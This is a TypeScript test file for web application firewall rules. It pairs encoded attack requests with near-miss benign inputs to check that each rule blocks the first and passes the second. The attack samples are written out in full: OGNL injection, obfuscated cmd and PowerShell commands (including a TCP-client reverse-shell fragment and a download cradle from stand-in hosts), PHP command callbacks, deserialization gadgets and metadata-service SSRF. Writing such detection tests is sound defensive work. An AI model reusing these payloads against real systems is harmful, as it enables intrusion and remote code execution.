/**
 * Bundled rules of rev 2026-12-05b and 2026-12-05d (issue 14): the last misses of the generated attack families drawn
 * with seeds 31, 8191 and 5, by mechanism — Struts' redirect:/action: prefix carrying OGNL, cmd started
 * with delayed expansion right after a separator, a PHP recon call as the whole statement of a value, a
 * PHP callback API handed a command function by name, a caret-prefixed cmd word (or ^&) after a separator,
 * a script host or download utility fetching a URL after a separator, a timed ping after a separator,
 * and, in earlier rules, Alibaba Cloud's metadata address in wildcard DNS, a literal \r\n sent
 * percent-encoded, eval after a JSON-escaped line break and pickle's text protocol in a cookie. Each fires on its attack and stays quiet on the
 * benign text closest to it (a Vue/JS placeholder after action:, a how-to naming cmd /v:on, a search for
 * a PHP function, array_map with an ordinary callback, a regular expression anchored after a pipe).
 */
import { describe } from 'vitest';
import { form, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();
const OGNL = "(#r=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse')).getWriter().println(7*7)";

const CASES: RuleCase[] = [
  [9001670, 'block', 'OGNL behind redirectAction: in a query value', q(`path=redirectAction:%24%7B${encodeURIComponent(OGNL)}%7D`), q('path=action:%24%7Bitem.id%7D&next=redirect:/home')],
  [9001670, 'block', 'OGNL behind action: in a form value', form(`lang=action%3A%24%7B${encodeURIComponent(OGNL)}%7D`), json('{"onClick":"action:${row.id}","template":"redirect:${url}"}')],
  [9001671, 'block', 'cmd /v:on after an encoded & in a form value', form('redirect=1400%26cmd+%2Fv%3Aon+%2Fc+%22set+i%3Dv%26%26set+k%3Der%26%26!i!!k!%22'), json('{"body":"Run cmd /v:on /c \\"echo !x!\\" to see delayed expansion."}')],
  [9001671, 'block', 'cmd.exe /v:on after ^& in a query value', q('debug=%5E%26cmd.exe%20%2Fv%3Aon%20%2Fc%20%22set%20q%3Dve%26%26call%20!q!%22'), q('q=cmd+%2Fv%3Aon+delayed+expansion')],
  [9001672, 'block', 'getenv("PATH"); after one junk character as a query value', q('file=1getenv(%22PATH%22)%3B'), q('q=getenv(%22PATH%22)+returns+false')],
  [9001672, 'block', 'php_uname(); as a whole form value', form('name=php_uname()%3B&submit=1'), form('q=php_uname()&submit=1')],
  [9001672, 'block', 'phpinfo(-1); with a trailing comment in a JSON value', json('{"q":"xphpinfo(-1);//"}'), json('{"body":"Call phpinfo(-1); once, then remove it from the page."}')],
  [9001672, 'block', "a quote breakout then getenv in a query value", q("file=%27%3Bgetenv(%22PATH%22)%3B"), q('q=how+to+read+getenv%28%22PATH%22%29%3B+in+php')],
  [9001673, 'block', "array_map('passthru', …) in a header", header('X-Request-Id', "xarray_map('passthru',array('uname -a'));"), json('{"code":"array_map(\'trim\', $lines); array_filter($rows, \'is_numeric\');"}')],
  [9001673, 'block', "call_user_func('system', …) in a form value", form('cb=call_user_func(%27system%27%2C%27id%27)'), form('cb=call_user_func(%27strtoupper%27%2C%27id%27)')],
  [9001674, 'block', '&&^dir after a short form value', form('host=788%26%26%5Edir+%5Ec%3A%5C'), q('re=%5E(api%7C%5Enet)%24')],
  [9001674, 'block', 'a line break then ^net ^user in a form value', form('data=%0a%5Enet%20%5Euser&submit=1'), form('notes=line+one%0a%5E+marks+a+footnote')],
  [9001671, 'block', 'cmd /v:on after a JSON-escaped line break, with the !a!!b! splice', json('{"input":"\\r\\ncmd /v:on /c \\"set v1=ve&&set y=r&&!v1!!y!\\""}'), json('{"script":"@echo off\\r\\ncmd /v:on /c \\"echo !PATH!\\""}')],
  [9001674, 'block', '^& as the separator before ver in a JSON value', json('{"name":"^&ver"}'), json('{"pattern":"[^&]+","re":"^&amp;"}')],
  [9001675, 'block', '|mshta with a URL in a query value', q('name=%7Cmshta%20https%3A%2F%2Fc2.example.test%2Fshellx.hta'), q('q=what+is+mshta.exe+https%3A%2F%2Flearn.example.test')],
  [9001675, 'block', '&certutil -urlcache with a URL in a form value', form('host=1%26certutil+-urlcache+-split+-f+http%3A%2F%2Fx.example.test%2Fa.exe'), form('notes=certutil+-urlcache+-split+-f+is+a+known+LOLBin')],
  [9001676, 'block', '&ping -n 18 with a caret in the host', q('url=%26ping+-n+18+evi%5El32.org'), q('host=example.org&count=18&tool=ping')],
  [9001676, 'block', ';ping -c 9 in a JSON value', json('{"ip":"127.0.0.1;ping -c 9 x.example.test"}'), json('{"body":"Try ping -c 9 example.org from a shell."}')],
  [9001652, 'block', 'a literal \\r\\n sent percent-encoded before X-Forwarded-For', form('page=en%5Cr%5CnX-Forwarded-For%3Atrue%5Cr%5Cn&submit=1'), form('page=en%5Cr%5Cnnote%3A+X-Forwarded-For+headers&submit=1')],
  [9001644, 'block', "eval '{ps,aux}' after a JSON-escaped line break", json('{"data":"\\neval \'{ps,aux}\\""}'), json('{"body":"\\nevaluate {ps,aux} later"}')],
  [9001605, 'block', "pickle's text protocol in a cookie", { ...header('Cookie', "theme=dark; debug=cposix%0asystem%0a(S'id'%0atR."), url: '/login' }, { ...header('Cookie', 'theme=dark; debug=cosine%0asystem'), url: '/login' }],
  [9001660, 'block', "Alibaba Cloud's metadata address as sslip.io hex", form('name=http%3A%2F%2F646464c8.sslip.io%2Fopc%2Fv2%2Finstance%2F'), form('name=http%3A%2F%2F646464c8.example.com%2Fimg%2F')],
  // rev 2026-12-05d: the misses of seed 4242's cmd-windows, powershell and shell-substitution families.
  [9001677, 'block', 'a slice of %ProgramData% building a cmd word in a form value', form('lang=||%ProgramData:~1,1%cmd /c ver'), form('note=set+PATH%3D%25PATH%25%3BC%3A%5Ctools+then+run+~1.bat')],
  [9001677, 'block', 'a percent-encoded %COMSPEC:~-7,3% slice in a query value', q('x=%25COMSPEC%3A~-7%2C3%25%20%2Fc%20ver'), q('q=50%25%3A~+half+price')],
  [9001678, 'block', 'New-Object broken by backticks before a TCP client, encoded', q('url=%3B%24c%3DNe%60w-Ob%60je%60ct%20System.Net.Sockets.TCPClient(%2790.82.252.42%27%2C29063)'), json('{"body":"Use `New-Object` to build a `WebClient`; see the `Invoke-Expression` docs."}')],
  [9001678, 'block', 'IE`X of a download cradle in a form value', form('host=IE%60X(New-Obje%60ct+Net.WebClient).DownloadString(%27http%3A%2F%2Fexfil.example.test%2Fs%27)'), form('notes=a+higher+sub-%60C%60+noise+floor+and+%60std-env%60+helpers')],
  [9001679, 'block', "a pipe then eval of pw$@d", q("lang=%7Ceval%20%27pw%24%40d%22"), q("q=it%27%27s+a+pi%27%27ng+test")],
  [9001020, 'block', 'a PHP object of a namespaced class in a cookie', { ...header('Cookie', 'theme=dark; file=O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";N;}'), url: '/account' }, { ...header('Cookie', 'theme=dark; cart=a:2:{i:0;s:5:"apple";i:1;s:4:"pear";}'), url: '/account' }],
  [9001020, 'block', 'an SPL container, URL-encoded, in a cookie', { ...header('Cookie', 'ip=C%3A16%3A%22SplObjectStorage%22%3A97%3A%7Bx%3Ai%3A0'), url: '/account' }, { ...header('Cookie', 'prefs=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A4%3A%22lang%22%3Bs%3A2%3A%22en%22%3B%7D'), url: '/account' }],
  [9001679, 'block', 'a brace expansion of pi$()ng in a header', header('X-Request-Id', '39710|exec "{pi$()ng,-c,1,pwn412.example.test}\''), header('X-Request-Id', '39710|exec-id {ping,pong}')],
];

describe('bundled rules for the attack families\' last misses (rev 2026-12-05b, 2026-12-05d)', () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
